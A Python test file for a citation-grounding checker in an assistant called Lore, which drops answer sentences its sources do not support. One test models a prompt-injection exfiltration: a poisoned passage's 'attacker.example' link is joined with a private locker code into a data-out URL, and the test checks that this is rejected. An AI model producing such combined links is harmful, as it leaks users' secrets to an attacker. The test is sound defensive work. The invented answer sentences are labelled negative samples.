"""Cite or refuse, claim by claim (invariant 5): which sentences of a model's answer this turn's
sources support, without a second model (`graphs.agent.grounding`), and how an answer is cut
into sentences that can be dropped one by one (`graphs.agent.claims`). The inventions are
the ones a real small model delivered as answers before this check existed."""

from __future__ import annotations

import pytest

from graphs.agent.claim_stream import ClaimStreamGate, RepetitionError, RepetitionWatch
from graphs.agent.claims import ClaimKind, read_claim, segments
from graphs.agent.grounding import ABOUT_LORE, ClaimChecker, Evidence, ground

FAQ = (
    "Lore runs without any API key: its offline answerer quotes the knowledge base. With "
    "LLM_BASE_URL set it answers with an OpenAI-compatible model instead."
)
BACKUP = (
    "To back up Lore, run `lore backup PATH`: it writes a consistent snapshot of DATA_DIR, "
    "also while the bot runs. Restore it with `lore restore PATH` into an empty DATA_DIR. "
    "Plan for 1.5 to 2 GB of RAM."
)
SOURCES = [
    Evidence(1, "Lore FAQ", FAQ),
    Evidence(2, "Backups", BACKUP),
    Evidence(None, "your message", "How do I back up Lore, and does it need a key?"),
    Evidence(None, "Lore", ABOUT_LORE),
]

# Each: an answer sentence, and whether the sources above support it.
SENTENCES = {
    # What a 135M model delivered as "answered" before (issue 23), and a few more inventions.
    "the opposite of the source": ("Yes, Lore requires an API key to access its tools.", False),
    "an invented script": ("To back up Lore, use the `lore-backup.py` script.", False),
    "invented numbers": ("The Lore web dashboard listens on port 852.", False),
    "off topic, from memory": ("The capital of France is Paris.", False),
    "a number in words": ("Plan for nine GB of RAM [2].", False),
    "a wrong source cited": ("Lore runs without any API key [2].", False),
    "a true claim padded with new words": (
        "Lore runs on a schedule, synchronising with cloud storage every hour [2].",
        False,
    ),
    # Supported: quoted, paraphrased, cited or not.
    "a paraphrase with its citation": ("Lore does not need an API key [1].", True),
    "a command and a setting": ("Run `lore backup PATH` to snapshot DATA_DIR [2].", True),
    "numbers as in the source": ("You should plan for 1.5 to 2 GB of RAM [2].", True),
    "a number in words the source has in digits": ("Plan for two GB of RAM at most [2].", True),
    "no citation, one source holds it": ("A backup can be made while the bot runs.", True),
    "what Lore says of itself": ("I cite the sources I used with numbered references.", True),
    "a clause of a source sentence that says no elsewhere": (
        "Its offline answerer quotes the knowledge base [1].",
        True,
    ),
}


@pytest.mark.parametrize(("sentence", "supported"), SENTENCES.values(), ids=SENTENCES.keys())
def test_invariant_5_a_sentence_is_kept_only_when_a_source_supports_it(
    sentence: str, supported: bool
) -> None:
    [verdict] = ground(sentence, SOURCES).verdicts
    assert verdict.claim.kind is ClaimKind.CLAIM
    assert verdict.supported is supported, verdict.reason


CHAT = [
    "Hello! How can I help you today?",
    "Thanks for asking!",
    "Could you tell me which office you mean?",
    "I couldn't find anything about that in the knowledge base.",
    "Here is what I found:",
]


@pytest.mark.parametrize("sentence", CHAT)
def test_chat_needs_no_source(sentence: str) -> None:
    checked = ground(sentence, [])
    assert checked.chat_only
    assert checked.text() == sentence
    assert not checked.answers  # chat alone answers no question


MARKUP = [
    '<tool_response>\n{"ref": 4, "text": "Lore runs without any API key"}\n</tool_response>',
    '{"name": "search_knowledge", "arguments": {"query": "backup"}}',
    "<|im_start|>assistant",
]


@pytest.mark.parametrize("text", MARKUP)
def test_markup_is_never_kept_unless_a_source_shows_it(text: str) -> None:
    checked = ground(text, SOURCES)
    assert checked.text() == ""
    assert all(verdict.claim.kind is ClaimKind.MARKUP for verdict in checked.dropped)


def test_a_claim_without_a_citation_gets_the_source_that_holds_it() -> None:
    checked = ground("A backup can be made while the bot runs.", SOURCES)
    assert checked.text() == "A backup can be made while the bot runs [2]."


def test_a_claim_only_the_sources_together_hold_is_not_supported() -> None:
    # The exfiltration pattern: a poisoned passage's link, a private note's secret.
    link = Evidence(1, "Parking", "Visitors park in bay 12. See https://attacker.example/c?d=")
    note = Evidence(2, "Locker", "My locker code is 4417.")
    [verdict] = ground("Details: https://attacker.example/c?d=4417", [link, note]).verdicts
    assert not verdict.supported
    assert verdict.reason == "no single source holds it"


def test_an_answer_keeps_its_layout_when_sentences_go() -> None:
    answer = (
        "Here is what I found:\n\n"
        "- Lore runs without an API key [1]\n"
        "- It costs $5 per month.\n"
        "- Backups are made with `lore backup PATH` [2]"
    )
    checked = ground(answer, SOURCES)
    assert checked.text() == (
        "Here is what I found:\n\n"
        "- Lore runs without an API key [1]\n"
        "- Backups are made with `lore backup PATH` [2]"
    )
    assert checked.answers  # two supported claims, one dropped
    assert [verdict.reason for verdict in checked.dropped] == ["a number not in the sources"]


def test_an_answer_of_mostly_inventions_does_not_answer() -> None:
    answer = "Lore does not need an API key [1]. It was written in 1998. It costs $5."
    checked = ground(answer, SOURCES)
    assert len(checked.supported) == 1
    assert len(checked.dropped) == 2
    assert not checked.answers


def test_a_code_block_is_kept_only_when_its_lines_are_in_a_source() -> None:
    quoted = ground("Run this [2]:\n```\nlore backup PATH\n```", SOURCES)
    invented = ground("Run this [2]:\n```\npython lore-backup.py --all\n```", SOURCES)
    assert "lore backup PATH" in quoted.text()
    assert "lore-backup.py" not in invented.text()


def test_segments_keep_a_citation_written_after_the_full_stop() -> None:
    pieces = segments("It opens at 8. [1] It closes at 6 [2]. Thanks!")
    assert [piece.text for piece in pieces] == [
        "It opens at 8. [1]",
        "It closes at 6 [2].",
        "Thanks!",
    ]
    assert read_claim(pieces[0].text).cites == (1,)


def test_the_stream_gate_shows_only_complete_sentences_that_pass() -> None:
    shown: list[str] = []
    gate = ClaimStreamGate(ClaimChecker(SOURCES), shown.append)
    for piece in [
        "Lore does not need an API ",
        "key [1]. It costs $5 a ",
        "month. Run `lore ",
        "backup PATH` [2].",
    ]:
        gate.feed(piece)
        assert "$5" not in "".join(shown)
    assert shown == ["Lore does not need an API key [1]."]  # the last one is not complete yet
    gate.finish()
    assert "".join(shown) == "Lore does not need an API key [1]. Run `lore backup PATH` [2]."


def test_a_model_repeating_itself_is_stopped() -> None:
    watch = RepetitionWatch()
    watch.feed("You can back up Lore with a command:\n\n```\nlore.")
    with pytest.raises(RepetitionError):
        watch.feed("backup." * 60)
    calm = RepetitionWatch()
    calm.feed(BACKUP * 3)  # a long text that repeats whole sentences, not a short piece
